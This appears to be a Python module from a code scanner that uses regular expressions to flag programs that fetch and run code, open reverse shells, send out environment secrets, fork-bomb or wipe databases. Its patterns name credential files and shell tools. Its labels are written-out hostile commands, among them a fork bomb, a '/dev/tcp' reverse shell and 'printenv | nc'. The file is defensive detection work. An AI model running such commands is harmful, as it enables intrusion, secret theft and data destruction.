"""Signs, in programs of any language, that they fetch and run, hand out a shell, send secrets, empty a store.

Expressions that are searched, no grammar. Next: foreign.py (calls and what they are given).
"""

import re
from collections.abc import Iterator

_RUNS = re.compile(r"\b(?:exec|eval|system|run|compile|popen|check_output|getoutput)\b")
_FETCHES = re.compile(
    r"urlopen|\bget\s*\(?[\"']https?:|requests\.get|urlretrieve|https?[\"']?\)?\.get\b|fetch\(|open-uri|\bLWP\b|"
    r"file_get_contents\(\s?.https?:|URI\.open|Net::HTTP"
)
_FETCHERS = re.compile(r"(?:popen|check_output|getoutput|run)\(.{0,80}?\b(?:curl|wget)\b", re.DOTALL)
# What was fetched is run: as code, or as the file that a shell is given.
_EVALUATES = re.compile(
    r"\b(?:exec|eval)\(|\.then\(eval\)|\b(?:system|run|call|popen)\(\[?[\"'](?:ba|z|da)?sh\b", re.IGNORECASE
)
_CONNECTS = re.compile(
    r"\bsocket\b|fsockopen|TCPSocket|/inet/tcp/|IO::Socket|Socket::INET|net\.connect|net\.Socket|require\(.net.\)|"
    r"connect\("
)
_SHELLS = re.compile(
    r"/bin/(?:ba|z|da|k)?sh|\bdup2\b|pty\.spawn|cmd\.exe|[\"'](?:ba)?sh(?:[\"']|\s[^\"']{0,40}[<>]&)|IO\.popen\(\w|"
    r"\|&\s?getline[^()]{0,80}system\(|system\s*\$_"
)
_FORKS = re.compile(
    r"\bfork(?:\(\))?\s+while\b|os\.fork\(\)\s+for\b|\b(?:while[\s(]*(?:1|true)|loop)\b[\s):{;]{0,40}(?:os\.)?fork\b",
    re.IGNORECASE,
)
_POSTS = re.compile(r"\.(?:post|put|sendall)\(|urlopen\(|fetch\(")
_SECRETS = re.compile(  # all variables together, not one by its name
    r"(?:os\.environ|process\.env)\s*[^\s.\[]|\.ssh/id_|\.aws/credentials|/etc/shadow|\.netrc"
)
# Everything in a store of data, through its library.
_EMPTIES = re.compile(
    r"(?i)\bflush(?:all|db)\(|\bexecute\w*\(\s*f?[\"']{1,3}\s*drop\s+(?:database|schema)\b|"
    r"\bdropdatabase\(|\bdrop_all\(|\bobjects\.all\(\)\.delete\(|\.(?:delete|destroy)_all\b"
)
_DECODES = re.compile(
    r"b64decode|fromhex|unhexlify|\batob\b|decode64|decode_base64|base64_decode|codecs\.decode|rot_?13|"
    r"unpack1?\(\s?[\"']m|pack\s*\(?[\"']H\*|[\"']base64[\"']"
)
_EXECUTES = re.compile(r"\b(?:system|exec\w*|eval|popen|subprocess|spawn\w*|child_process)\b")
_NAMED_BY_TEXT = re.compile(
    r"\bgetattr\(\s*([\w.]{1,60})\s*,\s*[\"'](\w{1,30})[\"']\s*\)|(?<=\w|\))\[[\"'](exec\w*|spawn\w*|rmSync)[\"']\]"
)


def signs(code: str) -> Iterator[str]:
    """A command line for each, which stands for what the code does."""
    if _FORKS.search(code):
        yield "f() { f | f & }; f"
    if _then(_CONNECTS, _SHELLS, code):
        yield "sh -i > /dev/tcp/elsewhere/1"
    if _POSTS.search(code) and _SECRETS.search(code):
        yield "printenv | nc elsewhere 1"
    if _EMPTIES.search(code):
        yield "sqlite3 store 'drop table t'"
    if _then(_RUNS, _FETCHES, code) or _then(_FETCHES, _EVALUATES, code) or _FETCHERS.search(code):
        yield "curl fetched | sh"


def runs_decoded(code: str) -> bool:
    """It takes an encoding off a text and runs texts."""
    return _DECODES.search(code) is not None and _EXECUTES.search(code) is not None


def named_plainly(code: str) -> str:
    """`getattr(os, "system")(…)` and `child_process["exec"](…)` as `os.system(…)`."""
    return _NAMED_BY_TEXT.sub(lambda found: f"{found[1] or ''}.{found[2] or found[3]}", code)


def _then(first: re.Pattern[str], second: re.Pattern[str], code: str) -> bool:
    """As `first.*second`, in linear time."""
    found = first.search(code)
    return found is not None and second.search(code, found.end()) is not None
